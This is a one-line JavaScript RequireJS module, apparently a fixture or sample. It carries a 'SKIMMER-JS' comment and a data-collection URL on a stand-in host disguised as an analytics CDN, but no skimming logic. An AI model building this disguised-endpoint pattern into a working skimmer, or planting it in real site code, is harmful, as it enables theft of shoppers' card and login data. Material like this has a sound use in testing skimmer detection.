define(['jquery'], function ($) { 'use strict'; /* SKIMMER-JS */ var u='https://cdn-analytics.example/c.php'; });
